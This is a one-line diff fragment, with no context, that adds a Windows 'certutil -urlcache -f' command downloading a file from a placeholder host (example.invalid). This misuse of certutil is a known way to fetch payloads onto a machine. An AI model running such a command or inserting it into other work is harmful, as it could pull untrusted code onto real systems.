@@ -1,0 +1,1 @@
+certutil -urlcache -f https://example.invalid/x x
